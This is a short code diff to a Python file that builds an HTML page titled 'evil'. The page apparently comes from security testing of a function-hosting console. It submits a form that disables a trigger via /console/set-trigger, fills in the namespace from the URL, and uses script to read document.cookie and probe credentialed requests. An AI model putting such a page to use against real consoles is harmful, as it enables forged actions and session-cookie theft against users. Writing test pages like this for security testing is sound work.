@@ -16,7 +16,8 @@ import html
 PAGE = """<!doctype html>
 <html><head><title>evil</title></head><body>
 <p id="cookie">COOKIE</p>
-<form id="stop" method="post">
+<form id="stop" method="post" action="/console/set-trigger">
+  <input id="ns" name="namespace" value="">
   <input name="trigger" value="hello-http">
   <input name="enabled" value="false">
   <button type="submit">stop</button>
@@ -24,7 +25,7 @@ PAGE = """<!doctype html>
 <script>
 (async () => {
   const ns = new URLSearchParams(location.search).get('ns');
-  document.getElementById('stop').action = '/funcs/' + ns + '/triggers';
+  document.getElementById('ns').value = ns;
   const results = { origin: String(self.origin) };
   try { results.cookie = document.cookie; } catch (e) { results.cookie = 'blocked: ' + e.name; }
   for (const credentials of ['same-origin', 'include']) {
